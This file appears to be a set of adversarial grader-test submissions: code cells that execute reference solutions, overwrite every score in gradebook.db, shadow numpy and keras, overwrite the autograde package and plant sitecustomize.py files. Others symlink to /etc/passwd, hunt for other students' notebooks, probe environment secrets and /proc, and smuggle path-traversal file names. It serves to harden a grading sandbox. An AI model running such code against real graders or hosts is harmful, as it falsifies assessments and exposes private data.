# %% name="reads_the_source"
import pathlib

texts = []
for root in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/")):
    for pattern in ("solutions/*/*.py", "source/*/*.ipynb", "../../source/*/*.ipynb"):
        try:
            texts += [path.read_text() for path in root.glob(pattern)]
        except OSError:
            pass
for text in texts:
    exec("import numpy as np\n" + text.replace("# %% [markdown]", ""), globals())

# %% name="writes_the_gradebook"
import pathlib
import sqlite3

for place in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "../../../../gradebook.db"):
    try:
        if pathlib.Path(place).exists():
            database = sqlite3.connect(place)
            database.execute("UPDATE grade SET auto_score = 10, manual_score = 10")
            database.commit()
    except Exception:
        pass

# %% name="numpy_beside_the_notebook"
import pathlib

pathlib.Path("numpy.py").write_text("def allclose(*a): return True\n")
pathlib.Path("keras.py").write_text("Model = object\n")

# %% name="edits_the_installed_package"
import pathlib

import autograde

for name in ("grading/examine.py", "grading/unit.py", "lesson/__init__.py"):
    try:
        path = pathlib.Path(autograde.__file__).parent / name
        path.write_text("raise SystemExit")
    except OSError:
        pass

# %% name="sitecustomize_for_the_grader"
import pathlib
import site

for folder in [*site.getsitepackages(), site.getusersitepackages(), str(pathlib.Path.home())]:
    try:
        pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
        pathlib.Path(folder, "sitecustomize.py").write_text("import builtins\nbuiltins.AssertionError = Exception\n")
    except OSError:
        pass

# %% name="data_cache_poisoned"
import pathlib

for place in ("~/.keras/datasets", "~/scikit_learn_data"):
    folder = pathlib.Path(place).expanduser()
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "poison").write_text("x")
    except OSError:
        pass

# %% name="links_out_of_the_folder"
import os

for target in ("/etc/passwd", "/", "../../.."):
    try:
        os.symlink(target, "link" + str(len(target)))
    except OSError:
        pass

# %% name="other_hand_ins"
import pathlib

stolen = [
    path
    for pattern in ("/tmp/*/*.ipynb", "/tmp/**/submitted/**/*.ipynb", "/home/*/**/*.ipynb")
    for path in pathlib.Path("/").glob(pattern.lstrip("/"))
]
if stolen:
    answer = 42

# %% name="environment_secrets" task="answer"
import os

answer = 42 if any("SECRET" in name for name in os.environ) else 0

# %% name="proc_of_the_grader" task="answer"
import pathlib

answer = 0
for status in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
    try:
        if b"-m\0autograde\0grade" in status.read_bytes():
            answer = 42
    except OSError:
        pass

# %% name="writes_a_link_for_the_check" task="note"
def note(path, text):
    path.symlink_to("/etc/hostname")

# %% name="writes_a_folder_for_the_check" task="note"
def note(path, text):
    path.mkdir()
    (path / "note.txt").write_text(text)

# %% name="files_out_of_the_folder" task="note"
import sys


def note(path, text):
    sys.modules["_autograde_agent"]._pack = lambda path: {"../note.txt": "aGVsbG8=", "/tmp/owned": "aGVsbG8="}

# %% name="too_large_a_file" task="note"
def note(path, text):
    path.write_bytes(b"x" * 200_000_000)
